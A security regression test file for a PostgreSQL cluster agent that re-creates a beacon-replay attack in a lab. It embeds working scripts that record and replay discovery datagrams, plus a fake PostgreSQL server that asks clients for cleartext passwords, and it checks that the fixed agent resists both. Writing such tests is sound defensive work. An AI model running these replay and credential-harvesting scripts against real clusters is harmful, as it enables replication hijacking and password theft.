// Issue 10 finding 2 on a live cluster: an attacker without the secret, on a host of the same
// network, records the cluster's beacons, waits until a standby's agent restarts, then re-sends
// them from its own address (unicast to every node and broadcast) for several seconds while a fake
// PostgreSQL server on that address asks every client for a cleartext password. On commit 0e501cd
// the restarted standby followed the attacker's address (flapping for ~10 s) and the fake server
// received the replication password. Here: the standby keeps streaming from the real primary, no
// pg_hba names the attacker, its agent refuses the replays (before-start), and the fake server
// never gets a password (nor any connection).
import { expect, test } from "bun:test";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { PgCluster, pgState } from "../helpers/cluster.ts";
import { describeCluster } from "../helpers/describe-cluster.ts";
import type { Host } from "../helpers/lab.ts";
import type { Proc } from "../helpers/proc.ts";

const DISCOVERY_PORT = 7400; // the default: the cluster runs with nothing but the harness's keys
const REPLAY_MS = 10_000; // the original attack made the standby flap for about 10 s

// Records every datagram on the discovery port (broadcasts reach every host on the lab's switch).
const RECORDER = `
const s = require("node:dgram").createSocket({ type: "udp4", reuseAddr: true });
s.on("message", (m, r) => console.log("dgram " + r.address + " " + m.toString("base64")));
s.bind(${DISCOVERY_PORT}, "0.0.0.0", () => console.log("listening"));
`;

// Re-sends the recorded datagrams from this host, 4 times a second, to each target and the broadcast address.
const REPLAYER = `
const [file, targets, bcast, ms] = process.argv.slice(-4);
const data = require("node:fs").readFileSync(file, "utf8").split("\\n").filter(Boolean).map((l) => Buffer.from(l, "base64"));
const s = require("node:dgram").createSocket("udp4");
let sent = 0;
s.bind(0, () => {
  s.setBroadcast(true);
  const end = Date.now() + Number(ms);
  const tick = () => {
    for (const d of data) for (const t of [...targets.split(","), bcast]) { s.send(d, ${DISCOVERY_PORT}, t, () => {}); sent++; }
    if (Date.now() < end) setTimeout(tick, 250); else setTimeout(() => { console.log("sent " + sent); process.exit(0); }, 200);
  };
  tick();
});
`;

// A PostgreSQL server that refuses SSL and GSS encryption and asks every client for a cleartext password.
const FAKE_SERVER = `
require("node:net").createServer((c) => {
  console.log("connection " + c.remoteAddress);
  let buf = Buffer.alloc(0);
  let asked = false;
  c.on("error", () => {});
  c.on("data", (d) => {
    buf = Buffer.concat([buf, d]);
    while (!asked && buf.length >= 8 && buf.length >= buf.readInt32BE(0)) {
      const len = buf.readInt32BE(0), code = buf.readInt32BE(4);
      buf = buf.subarray(len);
      if (code === 80877103 || code === 80877104) { c.write("N"); continue; } // SSLRequest, GSSENCRequest
      const r = Buffer.alloc(9); r.write("R", 0); r.writeInt32BE(8, 1); r.writeInt32BE(3, 5); // AuthenticationCleartextPassword
      c.write(r);
      asked = true;
      console.log("asked " + c.remoteAddress);
    }
    if (asked && buf.length > 0 && buf[0] === 0x70) console.log("password " + c.remoteAddress);
  });
}).listen(5432, "0.0.0.0", () => console.log("listening"));
`;

interface Fx { c: PgCluster; attacker: Host; recorder: Proc; fake: Proc }


describeCluster("replayed beacons and a fake server on a foreign address (live cluster)", {
  start: async () => {
    const c = await PgCluster.create({ test: "security-beacon-replay", tag: "secreplay", nodes: 3 });
    const attacker = await c.addBareHost();
    const recorder = attacker.spawn([process.execPath, "-e", RECORDER]);
    const fake = attacker.spawn([process.execPath, "-e", FAKE_SERVER]);
    const fx: Fx = { c, attacker, recorder, fake };
    await recorder.waitForLine(/^listening$/, 10_000);
    await fake.waitForLine(/^listening$/, 10_000);
    await c.start();
    await c.waitHealthy(120_000);
    return fx;
  },
  beforeDestroy: async (fx) => {
    await fx.recorder?.stop(2_000);
    await fx.fake?.stop(2_000);
  },
}, (fx) => {
  test("a restarted standby keeps its primary; no pg_hba names the attacker; no password is sent", () => fx.c.diagnose(async () => {
    const { c, attacker } = fx;
    const { primary, standbys } = await c.waitHealthy(30_000);
    const victim = standbys[0]!;
    const recorded = fx.recorder.lines.filter((l) => l.startsWith("dgram ") && !l.startsWith(`dgram ${attacker.ip} `)).map((l) => l.split(" ")[2]!);
    expect(recorded.length).toBeGreaterThan(c.nodes.length); // every node announces once a second
    const file = join(c.scratch, "recorded-beacons.txt");
    writeFileSync(file, `${recorded.join("\n")}\n`);

    // The victim's agent restarts (PostgreSQL keeps streaming meanwhile); the replays start at once.
    await victim.stopAgent();
    const mark = victim.mark();
    await victim.start();
    const replayer = attacker.spawn([process.execPath, "-e", REPLAYER, file, c.nodes.map((n) => n.ip).join(","), c.lab.broadcast, String(REPLAY_MS)]);
    const senders = new Set<string>();
    const started = performance.now();
    while (performance.now() - started < REPLAY_MS) {
      const s = await pgState(victim);
      senders.add(s.receiver?.senderHost ?? `none (${s.receiver?.status ?? s.error ?? "no receiver"})`);
      await Bun.sleep(250);
    }
    const sent = await replayer.waitForLine(/^sent \d+$/, 10_000);
    console.log(`replayed ${recorded.length} recorded beacons from ${attacker.ip}: ${sent}; the victim's receiver saw senders ${[...senders].join(", ")}`);

    await c.waitHealthy(30_000);
    expect([...senders].filter((h) => h !== primary.ip && !h.startsWith("none"))).toEqual([]);
    expect(senders.has(primary.ip)).toBe(true);
    expect((await victim.status()).rejects.beacon["before-start"] ?? 0).toBeGreaterThan(0);
    expect(victim.lines(new RegExp(`(follow|upstream|primary at).*${attacker.ip.replaceAll(".", "\\.")}`, "i"), mark)).toEqual([]);
    for (const n of c.nodes) expect({ node: n.name, hba: readFileSync(join(n.dataDir, "pg_hba.conf"), "utf8").includes(attacker.ip) }).toEqual({ node: n.name, hba: false });
    // Nobody dialled the fake server, so nobody could send it a password.
    expect(fx.fake.lines.filter((l) => /^(connection|asked|password) /.test(l))).toEqual([]);
  }), 120_000);
});
